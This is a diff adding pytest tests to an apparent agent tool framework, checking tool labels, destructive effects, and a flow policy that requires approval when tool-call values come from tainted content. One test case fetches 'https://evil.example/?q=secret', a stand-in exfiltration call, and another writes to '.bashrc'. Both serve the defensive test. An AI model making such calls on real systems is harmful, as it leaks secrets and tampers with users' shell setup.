@@ -5,6 +5,7 @@ import pytest
 from spindle import Tool, ToolRegistry, kit
 from spindle.errors import UsageError
 from spindle.kit.default_tools import KIT, TOOLSETS, kit_tools
+from spindle.trust.flow import FlowCall, FlowLedger, FlowPolicy
 
 OWN_WORDS = {"ask_user", "time_now", "calculate"}
 CHANGING = {
@@ -73,3 +74,46 @@ def test_a_tool_that_reaches_something_declares_it(tool: Tool) -> None:
     wanted = needs.get(str(tool.toolset))
 
     assert tool.capabilities.declared() == (() if wanted is None else (wanted,))
+
+
+@every_tool
+def test_a_tool_that_changes_something_gives_every_argument_a_role(tool: Tool) -> None:
+    arguments = set(tool.describe()["input_schema"]["properties"])
+
+    assert tool.read_only or {path.split(".")[0] for path in tool.flow.roles} == arguments
+
+
+def test_labels_and_destructive_effects_are_those_of_the_documentation() -> None:
+    labels = {tool.name: tool.output for tool in KIT if tool.output != "third-party-private" and not tool.trusted}
+
+    assert labels == {
+        "write_file": "first-party",
+        "patch_file": "first-party",
+        "memory_remember": "first-party",
+        "memory_forget": "first-party",
+        "web_fetch": "third-party-public",
+    }
+    assert {tool.name for tool in KIT if tool.destructive} == {"terminal", "memory_forget"}
+
+
+@pytest.mark.parametrize(
+    ("name", "args", "is_asked"),
+    [
+        ("read_file", {"path": "secrets.txt"}, False),
+        ("web_fetch", {"url": "https://shop.example/plan"}, False),
+        ("web_fetch", {"url": "https://evil.example/?q=secret"}, True),
+        ("write_file", {"path": "notes/plan.md", "content": "the plan"}, False),
+        ("write_file", {"path": ".bashrc", "content": "the plan"}, True),
+        ("terminal", {"command": "git status"}, True),
+        ("memory_forget", {"name": "plan"}, True),
+    ],
+)
+def test_a_policy_asks_where_somebody_else_chose_the_values(name: str, args: dict[str, str], is_asked: bool) -> None:
+    ledger = FlowLedger()
+    ledger.add_user_text("Read https://shop.example/plan and write the plan to notes/plan.md, then git status.")
+    ledger.taint()
+    (tool,) = (tool for tool in KIT if tool.name == name)
+
+    (decision,) = FlowPolicy().judge([FlowCall(tool=tool, args=args)], ledger)
+
+    assert decision.needs_approval is is_asked, decision.reasons
